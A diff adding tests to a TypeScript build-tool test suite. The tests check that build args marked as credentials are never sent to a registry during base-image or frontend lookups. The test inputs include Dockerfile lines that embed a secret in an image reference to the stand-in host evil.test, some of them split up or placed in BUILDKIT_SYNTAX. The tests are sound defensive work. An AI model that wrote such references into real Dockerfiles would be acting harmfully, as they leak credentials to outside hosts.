@@ -383,3 +383,33 @@ test("a base for the build platform is an input of its own", async () => {
   ]);
   expect(inputs.settings["build-platform"]).toBe("linux/amd64");
 });
+
+test.each<[string, string, Record<string, string>?]>([
+  ["as it is", "FROM evil.test/x:$T\n"],
+  ["in pieces", "ARG H=${T%??}\nFROM evil.test/x:a$H\n"],
+  ["in the frontend's name", "FROM scratch\n", { BUILDKIT_SYNTAX: "evil.test/${T}" }],
+])("no registry is told an arg that is from a credential: %s", async (_, text, more = {}) => {
+  const each = await repository({ Dockerfile: `ARG T\n${text}` });
+  const asked: string[] = [];
+  const base: Lookups["base"] = (reference) => Promise.reject(new Error(asked.push(reference).toString()));
+  const args = {
+    T: { value: "s3cret", stamp: false, confidential: true as const },
+    ...Object.fromEntries(
+      Object.entries(more).map(([name, value]) => [
+        name,
+        { value: value.replace("${T}", "s3cret"), stamp: false, confidential: true as const },
+      ]),
+    ),
+  };
+  await expect(inputsOf(each, { args }, { lookups: { ...makeLookups(), base } })).rejects.toMatchObject({
+    code: "configuration",
+    message: expect.stringContaining("depends on a build arg that looks like a credential"),
+  });
+  expect(asked).toEqual([]);
+});
+
+test("an arg that is from a credential may stand where nothing is looked up by it", async () => {
+  const each = await repository({ Dockerfile: "FROM scratch\nARG T\nLABEL t=$T\n" });
+  const { inputs } = await inputsOf(each, { args: { T: { value: "s3cret", stamp: false, confidential: true } } });
+  expect(inputs.args).toEqual({ T: "s3cret" });
+});
